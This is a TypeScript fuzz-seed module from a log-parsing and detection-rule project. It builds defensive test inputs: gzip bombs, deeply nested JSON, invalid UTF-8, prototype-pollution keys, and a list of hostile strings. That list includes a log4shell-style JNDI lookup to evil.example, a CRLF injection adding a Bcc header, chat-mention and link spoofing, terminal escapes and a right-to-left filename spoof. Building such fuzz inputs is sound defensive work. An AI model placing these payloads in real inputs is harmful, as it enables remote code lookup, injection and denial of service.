/**
 * Seed material for the fuzz targets: well-formed records (the project's authored fixtures, plus a slice of the shared
 * OTRF corpus when it is present), the rule pack's YAML, and hand-made hostile inputs (gzip bombs, 10k-deep JSON, long
 * lines, invalid UTF-8, prototype pollution keys). Loaded once per process.
 */
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import { otrfDir } from '../corpus/corpus-dir';

const REPO = path.join(__dirname, '..', '..');
const MAX_SEED_CHARS = 20_000;

function walk(dir: string, out: string[] = []): string[] {
  for (const name of readdirSync(dir).sort()) {
    const full = path.join(dir, name);
    if (statSync(full).isDirectory()) walk(full, out);
    else out.push(full);
  }
  return out;
}

/** One-line records from a fixture file: JSON files become one compact line, text files one record per line. */
function recordsOf(file: string): string[] {
  const text = readFileSync(file, 'utf8');
  if (file.endsWith('.json')) {
    try {
      const value: unknown = JSON.parse(text);
      const items = Array.isArray(value) ? value : [value];
      return items.map((item) => JSON.stringify(item));
    } catch {
      return [text];
    }
  }
  if (file.endsWith('.xml')) return [text.replace(/\r?\n\s*/g, '')];
  return text.split(/\r?\n/).filter((line) => line.trim() !== '');
}

let realRecords: string[] | undefined;

/**
 * Records of every format and shipper shape the parsers know (fixtures, walked recursively, so
 * test/fixtures/windows/shippers is included), plus OTRF Windows/Linux records when present.
 * The fixtures under test/fixtures alone are the seeds `npm test` relies on: a clone without the corpus still fuzzes
 * every format. Corpus records are used only when test/corpus/corpus-dir.ts finds the corpus (VMSENTRY_CORPUS_DIR or
 * its default): they widen the seeds, so a fixed FUZZ_SEED draws different cases with and without the corpus.
 */
export function seedRecords(): readonly string[] {
  if (realRecords) return realRecords;
  const out: string[] = [];
  for (const dir of ['windows', 'linux', 'macos', 'containers', 'edr']) {
    const full = path.join(REPO, 'test', 'fixtures', dir);
    if (!existsSync(full)) continue;
    for (const file of walk(full)) out.push(...recordsOf(file));
  }
  const otrf = otrfDir();
  if (existsSync(otrf)) {
    for (const name of readdirSync(otrf).sort()) {
      const lines = gunzipSync(readFileSync(path.join(otrf, name)))
        .toString('utf8')
        .split('\n')
        .filter((line) => line.trim() !== '');
      // Every 50th record: all shapes of the file without thousands of near-duplicates.
      for (let index = 0; index < lines.length; index += 50) out.push(lines[index] as string);
    }
  }
  realRecords = out.filter((record) => record.length <= MAX_SEED_CHARS);
  return realRecords;
}

let packTexts: string[] | undefined;

/** The rule pack's YAML files (rules and samples). */
export function seedRuleTexts(): readonly string[] {
  packTexts ??= walk(path.join(REPO, 'rules'))
    .filter((file) => file.endsWith('.yml') && !file.endsWith('.samples.yml'))
    .map((file) => readFileSync(file, 'utf8'));
  return packTexts;
}

/** Nested 10,000 levels deep, as JSON text. */
export const DEEP_ARRAY = `${'['.repeat(10_000)}1${']'.repeat(10_000)}`;
export const DEEP_OBJECT = `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`;
export const DEEP_YAML = `detection:\n  sel: ${'['.repeat(10_000)}${']'.repeat(10_000)}\n`;

/** A 256 KB line (CloudWatch's historical event cap) of one character, and one of a repeated command. */
export const LONG_LINE = 'A'.repeat(256 * 1024);
export const LONG_COMMAND = `{"EventID":1,"Image":"C:\\\\x\\\\VBoxManage.exe","CommandLine":"${'startvm '.repeat(32_000)}"}`;

/** Byte sequences that are not UTF-8: stray continuation bytes, overlong encodings, surrogates, truncation. */
export const INVALID_UTF8: readonly Buffer[] = [
  Buffer.from([0xff, 0xfe, 0xfd]),
  Buffer.from([0xc0, 0xaf]),
  Buffer.from([0xed, 0xa0, 0x80]),
  Buffer.from([0xe2, 0x82]),
  Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xc3, 0x28, 0x22, 0x7d]),
];

/** Keys that pollute prototypes when code merges parsed objects carelessly. */
export const POLLUTION_JSON: readonly string[] = [
  '{"__proto__":{"polluted":"yes"},"EventID":1,"Image":"C:\\\\VBoxManage.exe","CommandLine":"startvm x"}',
  '{"constructor":{"prototype":{"polluted":"yes"}},"EventID":4688,"NewProcessName":"x"}',
  '{"__proto__":{"toString":"x","polluted":1},"kind":"Event","apiVersion":"audit.k8s.io/v1","verb":"create"}',
  '{"event_data":{"__proto__":{"polluted":1}},"event_id":1,"log_name":"Microsoft-Windows-Sysmon/Operational"}',
  '{"fields":{"__proto__":{"polluted":1}},"category":"process_creation","platform":"windows"}',
];

let bombs: { small: Buffer; large: Buffer } | undefined;

/**
 * Gzip bombs: `small` inflates to 8 MiB (fast enough for every fuzz case when the limit is 1 MiB), `large` to
 * 128 MiB (over the 64 MiB default: used a few times, not per case).
 */
export function gzipBombs(): { small: Buffer; large: Buffer } {
  bombs ??= {
    small: gzipSync(Buffer.alloc(8 * 1024 * 1024, 0x20), { level: 9 }),
    large: gzipSync(Buffer.alloc(128 * 1024 * 1024, 0x20), { level: 9 }),
  };
  return bombs;
}

/** Hostile strings for event values, rule titles and record text. */
export const HOSTILE_STRINGS: readonly string[] = [
  '<!channel> <!here> <!everyone> <@U123ABC>',
  '<https://evil.example|click to approve>',
  '<http://evil.example>',
  'vboxmanage startvm x\r\nBcc: attacker@evil.example\r\nSubject: ignore',
  '\u001b[31mRED\u001b[0m \u001b]0;title\u0007 \u001b[2J\u009b31m',
  '*bold* _it_ ~strike~ `code` ```block``` > quote',
  'invoice\u202egnp.exe\u2066\u2069\u200b\ufeff',
  '\u0000\u0001\u0007\b\t\n\u000b\f\r\u001f\u007f\u0085\u2028\u2029',
  '\ud800 \udfff lone surrogates',
  '__proto__',
  'constructor',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style lookup string, literally
  '${jndi:ldap://evil.example/a}',
  '&lt;!channel&gt; &amp;',
];
